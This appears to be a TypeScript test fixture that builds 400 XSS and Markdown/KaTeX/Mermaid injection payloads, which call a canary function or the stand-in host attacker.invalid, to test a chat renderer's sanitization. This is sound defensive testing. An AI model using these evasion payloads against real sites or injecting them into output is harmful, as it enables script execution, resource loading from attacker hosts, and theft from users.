/** What an attacker writes into a conversation. Each calls `fired` with its number if it ever runs, or leaves for another host. */

/** Not reachable; a request for it shows that something tried. */
export const away = 'http://attacker.invalid'

/** Scripts that would run where the text around them is taken for markup. */
const scripts = (n: number): readonly string[] => [
  `<script>fired(${n})</script>`,
  `<ScRiPt>fired(${n})</sCrIpT>`,
  `<script src="${away}/${n}.js"></script>`,
  `<script>fired(${n})`,
  `<script\n>fired(${n})</script\t>`,
  `<scr<script>ipt>fired(${n})</scr</script>ipt>`,
  `<svg><script>fired(${n})</script></svg>`,
  `<svg onload=fired(${n})>`,
  `<svg/onload=fired(${n})//`,
  `<img src=x onerror=fired(${n})>`,
  `<img src="x" onerror="fired(${n})"/>`,
  `<img src=\`x\` onerror=fired(${n})>`,
  `<img src="${away}/${n}.png">`,
  `<image href=x onerror=fired(${n})>`,
  `<body onload=fired(${n})>`,
  `<iframe src="javascript:parent.fired(${n})"></iframe>`,
  `<iframe srcdoc="<script>parent.fired(${n})</script>"></iframe>`,
  `<object data="javascript:fired(${n})"></object>`,
  `<embed src="javascript:fired(${n})">`,
  `<details open ontoggle=fired(${n})>x</details>`,
  `<video><source onerror=fired(${n})></video>`,
  `<audio src=x onerror=fired(${n})></audio>`,
  `<input autofocus onfocus=fired(${n})>`,
  `<select autofocus onfocus=fired(${n})>`,
  `<marquee onstart=fired(${n})>x</marquee>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=fired(${n})></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=fired(${n})>`,
  `<noscript><p title="</noscript><img src=x onerror=fired(${n})>">`,
  `<style>@import '${away}/${n}.css';</style>`,
  `<link rel=stylesheet href="${away}/${n}.css">`,
  `<meta http-equiv="refresh" content="0;url=${away}/${n}">`,
  `<base href="${away}/">`,
  `<a href="javascript:fired(${n})" autofocus onfocus=fired(${n})>x</a>`,
  `<template><script>fired(${n})</script></template>`,
  `<textarea></textarea><img src=x onerror=fired(${n})>`,
  `<!--><img src=x onerror=fired(${n})>-->`,
  `<![CDATA[><img src=x onerror=fired(${n})>]]>`,
  `&lt;img src=x onerror=fired(${n})&gt;`,
  `\u003cimg src=x onerror=fired(${n})\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3Dfired(${n})%3E`,
]

/** Links that would run when they are followed, or load by themselves. */
const links = (n: number): readonly string[] => [
  `[x](javascript:fired(${n}))`,
  `[x](JaVaScRiPt:fired(${n}))`,
  `[x](java\tscript:fired(${n}))`,
  `[x](<java\nscript:fired(${n})>)`,
  `[x](&#106;avascript:fired(${n}))`,
  `[x](&#x6A;avascript:fired(${n}))`,
  `[x](javascript&colon;fired(${n}))`,
  `[x](\u0001javascript:fired(${n}))`,
  `[x]( javascript:fired(${n}))`,
  `[x](data:text/html,<script>fired(${n})</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:fired(${n}))`,
  `[x](blob:${away}/${n})`,
  `[x](file:///etc/passwd)`,
  `[x](//attacker.invalid/${n})`,
  `[x][y${n}]\n\n[y${n}]: javascript:fired(${n})`,
  `<javascript:fired(${n})>`,
  `![x](${away}/${n}.png)`,
  `![x](${away}/${n}.svg "onerror=fired(${n})")`,
  `![x](data:image/svg+xml,<svg onload=fired(${n})>)`,
  `![x" onerror="fired(${n})](x)`,
  `![x](x" onerror="fired(${n}))`,
  `[![x](${away}/${n}.gif)](javascript:fired(${n}))`,
  `[x](https://ok.example "\\" onmouseover=fired(${n}) ")`,
  `https://ok.example/"onmouseover="fired(${n})`,
]

/** Pieces of Markdown and of what is shown beside it. */
const frames = (n: number): readonly string[] => [
  `\`\`\`html"><img src=x onerror=fired(${n})>\ncode\n\`\`\``,
  `\`\`\`\n</code></pre><img src=x onerror=fired(${n})>\n\`\`\``,
  `\`</code><img src=x onerror=fired(${n})>\``,
  `| a | <img src=x onerror=fired(${n})> |\n|---|---|\n| <svg onload=fired(${n})> | b |`,
  `$\\href{javascript:fired(${n})}{x}$`,
  `$$\\url{javascript:fired(${n})}$$`,
  `$\\includegraphics{${away}/${n}.png}$`,
  `$\\htmlData{onclick=fired(${n})}{x}$`,
  `$\\style{background:url(${away}/${n})}{x}$`,
  `$<img src=x onerror=fired(${n})>$`,
  `\`\`\`mermaid\nflowchart TD\nA["<img src=x onerror=fired(${n})>"] -->|<svg onload=fired(${n})>| B\nclick A "javascript:fired(${n})"\n\`\`\``,
  `\`\`\`mermaid\nsequenceDiagram\nA->>B: <img src=x onerror=fired(${n})>\nNote over A,B: <svg onload=fired(${n})>\n\`\`\``,
  `# <img src=x onerror=fired(${n})>`,
  `> <img src=x onerror=fired(${n})>`,
  `- [ ] <img src=x onerror=fired(${n})>`,
  `1. <svg/onload=fired(${n})>`,
  `"><img src=x onerror=fired(${n})>`,
  `'><img src=x onerror=fired(${n})>`,
  `</title><img src=x onerror=fired(${n})>`,
  `</script><script>fired(${n})</script>`,
  `{{constructor.constructor('fired(${n})')()}}`,
  `\${fired(${n})}`,
]

/** So that a parser that is fooled once by what stands around is found. */
const around: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `before ${text} after`,
  (text) => `**${text}**`,
  (text) => `\u202e${text}\u202c`,
  (text) => `a😀${text}😀`,
]

/** Exactly four hundred; number n calls `fired(n)`. */
export const payloads: readonly string[] = Array.from({ length: 400 }, (_, n) => {
  const all = [...scripts(n), ...links(n), ...frames(n)]
  const wrap = around[Math.floor(n / all.length) % around.length] as (text: string) => string
  return wrap(all[n % all.length] as string)
})
